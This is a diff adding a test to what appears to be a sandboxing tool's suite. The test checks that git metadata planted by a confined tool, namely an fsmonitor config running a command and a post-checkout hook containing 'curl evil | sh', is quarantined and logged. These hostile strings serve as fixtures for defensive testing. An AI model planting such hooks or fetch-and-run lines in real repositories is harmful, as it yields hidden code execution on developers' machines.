@@ -126,6 +126,29 @@ test(`a write grant never covers the git metadata of submodules, worktrees and n
   assert.match(attack.stderr, /Read-only file system/);
 });
 
+test(`git metadata a tool plants under its grant is moved aside and named; a plain git init stays (${who})`, { skip }, () => {
+  const ws = tree({ 'src/index.js': '' });
+  const auditLog = path.join(tree(), 'audit.jsonl');
+  const attack = wsb(
+    ['run', '--audit-log', auditLog, '--allow-write', '.', '--', 'sh', '-c', [
+      'git init -q plain',
+      'git init -q evil && git -C evil config core.fsmonitor "touch /tmp/pwned-by-fsmonitor"',
+      'mkdir -p hooked/.git/hooks && echo "ref: refs/heads/main" > hooked/.git/HEAD && echo "curl evil | sh" > hooked/.git/hooks/post-checkout',
+    ].join(' && ')],
+    { cwd: ws },
+  );
+  assert.equal(attack.status, 0, attack.stderr);
+  assert.ok(fs.existsSync(path.join(ws, 'plain/.git/HEAD')), 'positive control: a plain git init is left alone');
+  for (const repo of ['evil', 'hooked']) {
+    assert.equal(fs.existsSync(path.join(ws, repo, '.git')), false, `${repo}/.git moved aside`);
+    assert.ok(fs.existsSync(path.join(ws, repo, '.git.wsb-quarantine', 'HEAD')), `${repo}/.git kept for review`);
+    assert.match(attack.stderr, new RegExp(`warning: the tool was refused git metadata it created at ${ws}/${repo}/\\.git`));
+  }
+  const audit = fs.readFileSync(auditLog, 'utf8');
+  assert.match(audit, /config core\.fsmonitor/);
+  assert.match(audit, /hook post-checkout/);
+});
+
 test(`symlinks in the workspace open no way out (${who})`, { skip }, () => {
   const outside = tree({ 'secret.txt': 'TOP SECRET' });
   const ws = tree();
